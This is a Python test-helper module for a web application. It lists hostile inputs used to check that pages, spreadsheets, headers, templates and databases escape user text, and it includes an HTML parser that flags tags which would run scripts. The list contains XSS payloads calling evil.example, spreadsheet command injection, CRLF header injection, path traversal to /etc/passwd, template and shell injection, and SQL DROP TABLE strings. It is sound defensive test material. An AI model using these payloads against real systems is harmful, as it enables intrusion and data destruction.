"""Hostile texts for pages, spreadsheets, headers, templates, databases, terminals and readers."""

from html.parser import HTMLParser

__all__ = ["TEXTS", "Page"]

TEXTS: tuple[str, ...] = (
    # Scripts in pages
    "<script>window.ran=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "<svg><animate onbegin=window.ran=1 attributeName=x>",
    "<body onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<a href=javascript:window.ran=1>here</a>",
    "<math><mtext><style><img src=x onerror=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=data:text/html,<script>ran=1</script>>",
    "<form action=//evil.example><button>go</button>",
    "<div hx-get=/people/ hx-trigger=load>",
    "<div data-hx-on:load='window.ran=1'>",
    "</title><script>window.ran=1</script>",
    "</textarea><script>window.ran=1</script>",
    "</main></body></html><h1>gone</h1>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    '" onmouseover="window.ran=1',
    "' onfocus='window.ran=1' autofocus='",
    "` onclick=window.ran=1 `",
    '"><img src=x onerror=window.ran=1>',
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "&amp;&quot;&#x27;",
    "\\u003cscript\\u003ewindow.ran=1",
    "\\x3cscript\\x3e",
    "javascript:window.ran=1",
    "data:text/html;base64,PHNjcmlwdD4=",
    "＜script＞window.ran=1＜/script＞",
    # Formulas in spreadsheets
    "=1+1",
    '=HYPERLINK("http://evil.example","here")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '=1+1";=1+1',
    "%0A=1+1",
    ",=1+1",
    # Headers and logs
    "x%0d%0aSet-Cookie: ran=1",
    "x\\r\\nLocation: //evil.example",
    'a.csv"; filename="evil.exe',
    "../../../../etc/passwd",
    # Templates, formats, shells
    "{{ 7*7 }}{% debug %}",
    "{{ request.user.password }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.settings}%(settings)s%s%n",
    "$(touch /tmp/ran);`id`",
    # Databases
    "'; DROP TABLE problems;--",
    '" OR ""="',
    "1' OR '1'='1",
    '*" NEAR(x) AND -',
    # Readers
    "| a | b |\\n|---|",
    "[here](javascript:window.ran)",
    "\ufeffbom",
    "ﬁ ligature ½ Ⅷ",
    "𝕊𝕔𝕣𝕚𝕡𝕥 😀👩‍🚀",
    "שלום עולם",
    "Ã© â€™ mojibake",
    "q\u0323\u0301 z\u0335",
    "null undefined NaN true",
)
"""None contains the blank, and cleaning a form's input changes none of them."""

_OURS = ("/static/",)


class Page(HTMLParser):
    """A page as a browser parses it: its texts, and the tags that would run something.

    Attributes:
        sentences, options: Texts of the page's sentences and options.
        text: All of the page's text.
        values: Values of its fields.
        faults: Tags that would run something, or load something from another site.
    """

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.sentences: list[str] = []
        self.options: list[str] = []
        self.faults: list[str] = []
        self.text = ""
        self.values: list[str] = []
        self._into: list[tuple[str, list[str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record a tag that would run or load something; enter a sentence or an option."""
        given = {name: value or "" for name, value in attrs}
        source = given.get("src") or given.get("srcdoc") or ""
        wrong = tag in ("iframe", "object", "embed", "base", "style", "math", "animate")
        wrong |= tag in ("script", "img") and not source.startswith(_OURS)
        wrong |= tag == "link" and not given.get("href", "").startswith(_OURS)
        wrong |= tag == "meta" and "http-equiv" in given
        wrong |= any(name.startswith(("on", "data-hx-on", "hx-on")) for name in given)
        wrong |= "style" in given
        for name in ("href", "action", "formaction", "hx-get", "hx-post"):
            wrong |= given.get(name, "").strip().lower().startswith(("javascript:", "data:", "//"))
        if "value" in given:
            self.values.append(given["value"])
        if wrong:
            self.faults.append(str(self.get_starttag_text()))
        words = given.get("class", "").split()
        if tag == "p" and "sentence" in words:
            self._into.append((tag, self.sentences))
            self.sentences.append("")
        elif tag == "li" and "options" in (self._list or ""):
            self._into.append((tag, self.options))
            self.options.append("")
        if tag == "ul":
            self._list = given.get("class", "")
        if tag == "span" and "hidden" in words and self._into:
            self._into.append((tag, [""]))

    _list = ""

    def handle_endtag(self, tag: str) -> None:
        """Leave a sentence or an option."""
        if self._into and self._into[-1][0] == tag:
            self._into.pop()
        if tag == "ul":
            self._list = ""

    def handle_data(self, data: str) -> None:
        """Collect text."""
        self.text += data
        if self._into:
            self._into[-1][1][-1] += data
